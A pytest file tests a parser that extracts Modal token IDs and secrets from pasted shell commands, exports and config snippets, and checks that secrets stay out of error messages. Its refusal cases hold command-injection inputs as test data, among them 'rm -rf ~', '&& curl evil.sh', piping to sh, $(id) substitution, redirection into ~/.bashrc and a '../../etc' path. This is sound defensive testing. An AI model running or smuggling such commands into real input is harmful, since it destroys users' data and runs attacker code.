from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.credentials.modal_command import (
    PasteIncompleteError,
    PasteRefusedError,
    parse_modal_command,
    token_problem,
)

ID = "ak-AbCdEfGhIjKlMnOpQrStUv"
SECRET = "as-ZyXwVuTsRqPoNmLkJiHgFe"
SET = f"modal token set --token-id {ID} --token-secret {SECRET}"

# text, and what it says besides the two tokens: profile, activate
GOOD = {
    "website": (f"{SET} --profile=alice", "alice", True),
    "plain": (SET, None, True),
    "equals": (f"modal token set --token-id={ID} --token-secret={SECRET}", None, True),
    "double quotes": (f'modal token set --token-id "{ID}" --token-secret "{SECRET}"', None, True),
    "single quotes": (f"modal token set --token-id '{ID}' --token-secret '{SECRET}'", None, True),
    "quoted equals": (f'modal token set --token-id="{ID}" "--token-secret={SECRET}"', None, True),
    "other order": (f"modal token set --profile bob --token-secret {SECRET} --token-id {ID}", "bob", True),
    "flags": (f"{SET} --no-activate --no-verify", None, False),
    "environment": (f"{SET} --env main -e dev", None, True),
    "profile first": (f"modal --profile bob token set --token-id {ID} --token-secret {SECRET}", "bob", True),
    "profile= first": (f"modal --profile=bob token set --token-id {ID} --token-secret {SECRET}", "bob", True),
    "dollar prompt": (f"$ {SET}", None, True),
    "dollar, no blank": (f"${SET}", None, True),
    "angle prompt": (f"> {SET}", None, True),
    "percent prompt": (f"% {SET}", None, True),
    "root prompt": (f"# {SET}", None, True),
    "bash prompt": (f"me@host:~/flux$ {SET}", None, True),
    "zsh prompt": (f"me@mac ~ % {SET}", None, True),
    "rhel prompt": (f"[me@host flux]$ {SET}", None, True),
    "venv prompt": (f"(venv) me@host:~$ {SET}", None, True),
    "oh-my-zsh prompt": (f"\u279c  flux git:(main) \u2717 {SET}", None, True),
    "starship prompt": (f"\u276f {SET}", None, True),
    "powershell prompt": (f"PS C:\\Users\\Jo Doe> {SET}", None, True),
    "cmd prompt": (f"C:\\Users\\me>{SET}", None, True),
    "notebook": (f"!{SET}", None, True),
    "ipython": (f"In [3]: !{SET}", None, True),
    "backslash lines": (f"modal token set \\\n  --token-id {ID} \\\n  --token-secret {SECRET}", None, True),
    "continued prompts": (
        f"$ modal token set \\\n> --token-id {ID} \\\n> --token-secret {SECRET}",
        None,
        True,
    ),
    "caret lines": (f"modal token set ^\r\n  --token-id {ID} ^\r\n  --token-secret {SECRET}\r\n", None, True),
    "cmd continued": (f"C:\\>modal token set ^\r\nMore? --token-id {ID} --token-secret {SECRET}", None, True),
    "backtick lines": (f"modal token set `\r\n  --token-id {ID} `\r\n  --token-secret {SECRET}", None, True),
    "powershell continued": (
        f"PS> modal token set `\n>> --token-id {ID} `\n>> --token-secret {SECRET}",
        None,
        True,
    ),
    "bare line breaks": (f"modal token set\n--token-id {ID}\n--token-secret {SECRET}\n", None, True),
    "value on next line": (f"modal token set --token-id\n{ID} --token-secret\n{SECRET}", None, True),
    "broken token": (f"modal token set --token-id {ID[:9]}\n{ID[9:]} --token-secret {SECRET}", None, True),
    "smart quotes": (
        f"modal token set --token-id \u201c{ID}\u201d --token-secret \u2018{SECRET}\u2019",
        None,
        True,
    ),
    "smart dashes": (f"modal token set \u2014token-id {ID} \u2013token-secret {SECRET}", None, True),
    "no-break spaces": (SET.replace(" ", "\u00a0"), None, True),
    "zero-width": (f"\ufeff{SET}\u200b", None, True),
    "tabs": (SET.replace(" ", "\t "), None, True),
    "bracketed paste": (f"\x1b[200~{SET}\x1b[201~", None, True),
    "coloured": (f"\x1b[32m$\x1b[0m {SET}", None, True),
    "fence": (f"```bash\n{SET}\n```", None, True),
    "code span": (f"`{SET}`", None, True),
    "python -m": (f"python -m {SET}", None, True),
    "uv run": (f"uv run {SET}", None, True),
    "uvx": (f"uvx {SET}", None, True),
    "path": (f"./.venv/bin/{SET}", None, True),
    "exe": (f".venv\\Scripts\\{SET.replace('modal ', 'modal.exe ', 1)}", None, True),
    "shell comment": (f"{SET}  # my laptop", None, True),
    "comment line": (f"# get it from the website\n{SET}", None, True),
    "trailing semicolon": (f"{SET};", None, True),
    "same token twice": (f"{SET}\n{ID} {SECRET}", None, True),
    "exports": (f"export MODAL_TOKEN_ID={ID}\nexport MODAL_TOKEN_SECRET={SECRET}", None, True),
    "exports in one line": (f"export MODAL_TOKEN_ID={ID} MODAL_TOKEN_SECRET='{SECRET}'", None, True),
    "exports joined": (f"export MODAL_TOKEN_ID={ID} && export MODAL_TOKEN_SECRET={SECRET}", None, True),
    "cmd set": (f"set MODAL_TOKEN_ID={ID}\r\nset MODAL_TOKEN_SECRET={SECRET}", None, True),
    "setx": (f'setx MODAL_TOKEN_ID "{ID}"\nsetx MODAL_TOKEN_SECRET "{SECRET}" /M', None, True),
    "fish": (f"set -gx MODAL_TOKEN_ID {ID}\nset -gx MODAL_TOKEN_SECRET {SECRET}", None, True),
    "csh": (f"setenv MODAL_TOKEN_ID {ID}\nsetenv MODAL_TOKEN_SECRET {SECRET}", None, True),
    "powershell variables": (
        f'$env:MODAL_TOKEN_ID = "{ID}"; $env:MODAL_TOKEN_SECRET = "{SECRET}"',
        None,
        True,
    ),
    "dotenv": (f'MODAL_TOKEN_ID="{ID}"\nMODAL_TOKEN_SECRET={SECRET}\nMODAL_PROFILE=bob', "bob", True),
    "yaml": (f"MODAL_TOKEN_ID: {ID}\nMODAL_TOKEN_SECRET: {SECRET}", None, True),
    "python": (
        f'os.environ["MODAL_TOKEN_ID"] = "{ID}"\nos.environ["MODAL_TOKEN_SECRET"] = "{SECRET}"',
        None,
        True,
    ),
    "labels": (f"Token ID: {ID}\nToken Secret: {SECRET}", None, True),
    "two tokens": (f"{ID} {SECRET}", None, True),
    "two lines": (f"  {ID}\n{SECRET}\n\n", None, True),
    "swapped bare tokens": (f"{SECRET},{ID}", None, True),
    "with a colon": (f"{ID}:{SECRET}", None, True),
    "config file": (f'[bob]\ntoken_id = "{ID}"\ntoken_secret = "{SECRET}"\nactive = true', "bob", True),
    "json": (f'{{"token_id": "{ID}", "token_secret": "{SECRET}"}}', None, True),
}


@pytest.mark.parametrize("shape", GOOD)
def test_shapes_that_people_paste(shape: str) -> None:
    text, profile, activate = GOOD[shape]
    found = parse_modal_command(text)
    assert (found.token_id, found.token_secret.reveal()) == (ID, SECRET)
    assert (found.profile, found.activate) == (profile, activate)
    assert SECRET not in repr(found)
    assert ID not in repr(found)


BAD = {
    "rm after": (f"{SET}; rm -rf ~", "another command"),
    "rm before": (f"rm -rf ~; {SET}", "not a Modal token command"),
    "rm on the next line": (f"{SET}\nrm -rf ~", "goes on"),
    "and": (f"{SET} && curl evil.sh", "another command"),
    "or": (f"{SET} || true", "pipe"),
    "pipe": (f"{SET} | sh", "pipe"),
    "background": (f"{SET} &", "ampersand"),
    "redirection": (f"{SET} > ~/.bashrc", "redirection"),
    "echo into": (f"echo x > {SET}", "redirection"),
    "here document": (f"{SET} <<EOF", "redirection"),
    "substitution": (f"modal token set --token-id $(id) --token-secret {SECRET}", "substitution"),
    "quoted substitution": (f'modal token set --token-id "$(id)" --token-secret {SECRET}', "substitution"),
    "backticks": (f"modal token set --token-id `id` --token-secret {SECRET}", "backticks"),
    "variable": ("modal token set --token-id $MODAL_ID --token-secret $MODAL_SECRET", r"\(\$\)"),
    "glob": (f"modal token set --token-id * --token-secret {SECRET}", "wildcard"),
    "subshell": (f"({SET})", "parentheses"),
    "open quote": (f'modal token set --token-id "{ID} --token-secret {SECRET}', "quote"),
    "swapped": (f"modal token set --token-id {SECRET} --token-secret {ID}", "swapped"),
    "wrong prefix": (f"modal token set --token-id xx-{ID[3:]} --token-secret {SECRET}", "begin with ak-"),
    "same prefix": (f"modal token set --token-id {ID} --token-secret {ID}", "begin with as-"),
    "cut off": (f"modal token set --token-id {ID} --token-secret {SECRET[:9]}", "too short"),
    "far too long": (f"modal token set --token-id {ID} --token-secret {SECRET * 5}", "characters|too long"),
    "odd characters": (f"modal token set --token-id {ID} --token-secret {SECRET}/=", "characters"),
    "placeholder dots": ("modal token set --token-id ak-... --token-secret as-...", "placeholder"),
    "placeholder x": (
        "modal token set --token-id ak-xxxxxxxxxxxxxxxxxxxxxx --token-secret as-xxxxxxxx",
        "placeholder",
    ),
    "placeholder angle": ("modal token set --token-id <id> --token-secret <secret>", "placeholder"),
    "placeholder words": (
        "modal token set --token-id your-token-id --token-secret your-token-secret",
        "placeholder",
    ),
    "dashes": ("modal token set --token-id - --token-secret -", "dash"),
    "proxy token": (f"modal token set --token-id wk-{ID[3:]} --token-secret ws-{SECRET[3:]}", "proxy auth"),
    "hugging face": ("hf_abcdefghijklmnopqrstuvwxyz12345678", "Hugging Face"),
    "hugging face as id": (
        f"modal token set --token-id hf_{'aB3' * 9} --token-secret {SECRET}",
        "Hugging Face",
    ),
    "unknown option": (f"{SET} --exec sh", "option"),
    "token new": ("modal token new", "browser"),
    "setup": ("modal setup", "browser"),
    "other command": ("modal run app.py", "another command of modal"),
    "no command": ("pip install modal", "not a Modal token command"),
    "word after": (f"{SET} now", "not a Modal token command"),
    "two commands": (f"{SET}\n{SET}", "more than one"),
    "two ids": (f"{SET} --token-id ak-{'Zz9' * 7}Q", "two different"),
    "two profiles": (
        f'[a]\ntoken_id="{ID}"\ntoken_secret="{SECRET}"\n[b]\ntoken_id="{ID}"\n',
        "several profiles",
    ),
    "path as profile": (f"{SET} --profile ../../etc", "name"),
    "exports something else": ("export PATH=/tmp:/bin", "something else|not a Modal"),
    "empty": ("  \n ", "nothing"),
    "control characters": (f"{SET}\x00\x07", "control"),
    "a book": (SET + " x" * 9000, "far too long"),
}


@pytest.mark.parametrize("shape", BAD)
def test_what_is_refused_and_why(shape: str) -> None:
    text, why = BAD[shape]
    with pytest.raises(PasteRefusedError, match=why) as caught:
        parse_modal_command(text)
    said = str(caught.value)
    assert "\n" not in said
    assert not any(part in said for part in (ID, SECRET, ID[3:], SECRET[3:], "rm -rf", "curl"))


@pytest.mark.parametrize(
    "text",
    [
        "modal token set",
        f"modal token set --token-id {ID}",
        "modal token set --token-id",
        ID,
        f"export MODAL_TOKEN_ID={ID}",
    ],
)
def test_a_first_line_alone_is_incomplete(text: str) -> None:
    with pytest.raises(PasteIncompleteError):
        parse_modal_command(text)
    with pytest.raises(PasteIncompleteError):
        parse_modal_command(text + " \\")


def test_shapes_of_tokens() -> None:
    assert token_problem(ID, SECRET) is None
    assert "swapped" in str(token_problem(SECRET, ID))
    assert "missing" in str(token_problem(ID, ""))


@given(st.text(max_size=200))
def test_no_text_is_more_than_refused(text: str) -> None:
    with contextlib.suppress(PasteRefusedError):
        parse_modal_command(text)


@given(
    st.text(alphabet=" ;&|$`'\"\\^\n()<>-#=ak", max_size=30),
    st.text(alphabet=" ;&|$`'\"\\^\n()<>-#=rm", max_size=30),
)
def test_a_token_that_is_found_is_the_one_that_was_pasted(before: str, after: str) -> None:
    try:
        found = parse_modal_command(f"{before} {SET} {after}")
    except PasteRefusedError:
        return
    assert (found.token_id, found.token_secret.reveal()) == (ID, SECRET)
